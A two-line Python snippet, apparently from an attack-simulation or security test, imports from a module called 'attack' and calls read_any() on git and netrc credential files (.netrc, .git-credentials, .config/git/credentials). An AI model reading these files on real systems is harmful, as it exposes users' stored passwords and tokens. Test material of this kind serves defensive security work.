from attack import *

read_any(".netrc", ".git-credentials", ".config/git/credentials")
